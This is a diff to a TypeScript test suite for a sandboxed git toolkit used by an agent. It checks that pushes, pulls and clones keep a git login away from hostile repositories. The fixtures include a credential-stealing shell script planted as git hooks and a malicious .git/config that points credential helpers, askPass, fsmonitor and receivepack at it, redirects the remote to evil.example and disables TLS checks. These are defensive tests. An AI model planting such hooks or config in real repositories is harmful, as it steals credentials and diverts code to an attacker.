@@ -1,4 +1,4 @@
-import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs'
+import { chmodSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { GatehouseError } from '@gatehouse/contract'
 import { hasProgram } from '@gatehouse/testkit/programs'
@@ -9,6 +9,9 @@ import { GitServer } from '../git/git-server.ts'
 import { GitKit, newest, plainGit, refusal } from '../git/kit.ts'
 
 const noReal = !hasProgram('git') || !hasProgram('bwrap')
+
+const passwordOf = ({ login }: GitServer): string => login.split(':')[1] as string
+const encoded = ({ login }: GitServer): string => Buffer.from(login).toString('base64')
 
 /** An agent whose vault knows the login of the server, for that host alone. */
 const agentOf = (server: GitServer) => {
@@ -22,7 +25,12 @@ const agentOf = (server: GitServer) => {
         if (use.name === 'git-token' && use.host === '127.0.0.1') return work(server.login)
         throw new GatehouseError('SecretNotAllowed', { ...use })
       },
-      scrub: (value) => value,
+      scrub: (value) =>
+        JSON.parse(
+          JSON.stringify(value)
+            .replaceAll(passwordOf(server), '[secret]')
+            .replaceAll(encoded(server), '[secret]'),
+        ),
     },
   })
   return { kit, uses }
@@ -63,9 +71,8 @@ describe.skipIf(noReal)('remotes', () => {
       state: 'clean',
     })
     expect((await kit.git.log('app', newest)).commits).toHaveLength(3)
-    const password = server.login.split(':')[1] ?? ''
-    expect(holding(kit.dataDir, password)).toEqual([])
-    expect(holding(kit.dataDir, Buffer.from(server.login).toString('base64'))).toEqual([])
+    expect(holding(kit.dataDir, passwordOf(server))).toEqual([])
+    expect(holding(kit.dataDir, encoded(server))).toEqual([])
     expect(kit.get('app/.git/config')).toContain(url)
     expect(readdirSync(join(kit.dataDir, 'git'))).toEqual(['authorities.pem'])
   })
@@ -198,5 +205,139 @@ describe.skipIf(noReal)('remotes', () => {
     const { commit_hash } = await kit.git.commit('app', { message: 'First' })
     await kit.git.push('app', await kit.git.planPush('app', 'origin'), secret)
     expect(server.head('empty.git')).toBe(commit_hash)
+  })
+})
+
+/** What a program in the sandbox could do that gets hold of the login or the network. */
+const thief = (kit: GitKit): string =>
+  `#!/bin/sh\n(echo RAN; env; cat; cat <&3) >> ${kit.at('app')}/RAN 2>&1\n`
+
+describe.skipIf(noReal)('remotes and those who would misuse them', () => {
+  test('what an agent sets in its repository during a push meets neither the login nor the network', async () => {
+    await using server = await GitServer.open()
+    const { kit } = agentOf(server)
+    await using _kit = kit
+    const url = server.create('app.git')
+    await kit.git.clone(url, 'app', { secret })
+    kit.put('app/own.txt', 'own\n')
+    await kit.git.commit('app', { message: 'Own' })
+    kit.put('app/thief.sh', thief(kit))
+    for (const hook of ['pre-push', 'reference-transaction']) {
+      kit.put(`app/.git/hooks/${hook}`, thief(kit))
+      chmodSync(kit.at(`app/.git/hooks/${hook}`), 0o755)
+    }
+    const program = `sh ${kit.at('app/thief.sh')}`
+    const evil = [
+      `[credential]\n\thelper = "!${program}"`,
+      `[credential "https://${server.host}"]\n\thelper = "!${program}"`,
+      `[core]\n\taskPass = ${program}\n\tfsmonitor = ${program}\n\tgitProxy = ${program}`,
+      `[url "https://evil.example/"]\n\tinsteadOf = ${url}`,
+      `[http]\n\tproxy = http://127.0.0.1:9\n\tsslVerify = false`,
+      `[remote "origin"]\n\turl = https://evil.example/x\n\tpushurl = https://evil.example/x\n\treceivepack = ${program}`,
+      `[uploadpack]\n\tpackObjectsHook = ${program}`,
+    ].join('\n')
+    const plan = await kit.git.planPush('app', 'origin')
+    let swaps = 0
+    kit.beforeRun = () => {
+      swaps += 1
+      writeFileSync(kit.at('app/.git/config'), evil)
+    }
+    const before = kit.get('app/.git/config')
+    expect(await kit.git.push('app', plan, secret)).toMatchObject({ new_commits: 1 })
+    // Where the remote stands could not be noted in such a repository.
+    expect(kit.notes.at(-1)).toEqual({ remote_branch_noted: false })
+    expect(swaps).toBeGreaterThan(4)
+    expect(server.head('app.git')).toBe(plan.head)
+    expect(existsSync(kit.at('app/RAN'))).toBe(false)
+    expect(holding(kit.workspace, passwordOf(server))).toEqual([])
+    kit.beforeRun = () => {}
+    writeFileSync(kit.at('app/.git/config'), before)
+    server.add('app.git', 'more.txt', 'more\n', 'More')
+    const pullPlan = await kit.git.planPull('app', 'origin')
+    kit.beforeRun = () => writeFileSync(kit.at('app/.git/config'), evil)
+    expect(await kit.git.pull('app', pullPlan, secret)).toMatchObject({ result: 'fast_forward' })
+    expect(existsSync(kit.at('app/RAN'))).toBe(false)
+    expect(holding(kit.workspace, passwordOf(server))).toEqual([])
+  })
+
+  test('a push that would carry more than was shown is rejected before anything goes', async () => {
+    await using server = await GitServer.open()
+    const { kit } = agentOf(server)
+    await using _kit = kit
+    const url = server.create('empty.git', 0)
+    const hidden = await kit.repository()
+    kit.put('project/b.txt', 'b\n')
+    await kit.git.commit('project', { message: 'Shown' })
+    kit.plain('project', 'remote', 'add', 'origin', url)
+    // As if the remote had the first commit already.
+    kit.plain('project', 'update-ref', 'refs/remotes/origin/main', hidden)
+    const plan = await kit.git.planPush('project', 'origin')
+    expect(plan).toMatchObject({ total_commits: 1, remote_head: hidden })
+    const error = await refusal(kit.git.push('project', plan, secret))
+    expect(error.type).toBe('PushRejected')
+    expect(error.message).toContain('more commits would go than were shown')
+    const other = await refusal(kit.git.push('project', { ...plan, bases: [] }, secret))
+    expect(other.type).toBe('PushRejected')
+    expect(() => server.head('empty.git')).toThrow()
+  })
+
+  test('a remote that repeats the login in its answer shows nothing of it', async () => {
+    await using server = await GitServer.open()
+    const { kit } = agentOf(server)
+    await using _kit = kit
+    const url = server.create('app.git')
+    server.onRequest = (request, response) => {
+      const { authorization } = request.headers
+      if (!authorization) return false
+      response
+        .writeHead(403, { 'content-type': 'text/plain' })
+        .end(`you sent ${authorization} that is ${server.login}\n`)
+      return true
+    }
+    const error = await refusal(kit.git.clone(url, 'app', { secret }))
+    expect(error.type).toBe('RemoteRefused')
+    expect(error.message).toContain('you sent')
+    expect(JSON.stringify([error.message, error.facts])).not.toContain(passwordOf(server))
+    expect(JSON.stringify([error.message, error.facts])).not.toContain(encoded(server))
+  })
+
+  test('a redirect is not followed, and its place never gets the login', async () => {
+    await using server = await GitServer.open()
+    await using other = await GitServer.open()
+    const { kit } = agentOf(server)
+    await using _kit = kit
+    const url = server.create('app.git')
+    other.create('app.git')
+    server.onRequest = (request, response) => {
+      response.writeHead(302, { location: `${other.url('')}${request.url?.slice(1)}` }).end()
+      return true
+    }
+    const error = await refusal(kit.git.clone(url, 'app', { secret }))
+    expect(error.type).toBe('RemoteRefused')
+    expect(other.requests).toEqual([])
+  })
+
+  test('a host that is guarded is not reached, and a secret goes to its own host alone', async () => {
+    await using server = await GitServer.open()
+    await using hidden = await GitServer.open()
+    const { kit, uses } = agentOf(server)
+    await using _kit = kit
+    const guarded = await refusal(kit.git.clone(hidden.create('app.git'), 'app', {}))
+    expect(['RemoteRefused', 'HostUnreachable']).toContain(guarded.type)
+    expect(hidden.requests).toEqual([])
+    const url = server.create('app.git').replace('127.0.0.1', 'localhost')
+    expect((await refusal(kit.git.clone(url, 'app', { secret }))).type).toBe('SecretNotAllowed')
+    expect(uses.at(-1)?.host).toBe('localhost')
+    expect(server.requests).toEqual([])
+  })
+
+  test('an authority that nobody named is not trusted', async () => {
+    await using server = await GitServer.open()
+    const kit = new GitKit({ outbound: outboundWith({ privateTargets: [server.host] }) })
+    await using _kit = kit
+    const error = await refusal(kit.git.clone(server.create('app.git'), 'app', {}))
+    expect(error.type).toBe('RemoteRefused')
+    expect(error.message).toContain('no safe connection')
+    expect(server.requests).toEqual([])
   })
 })
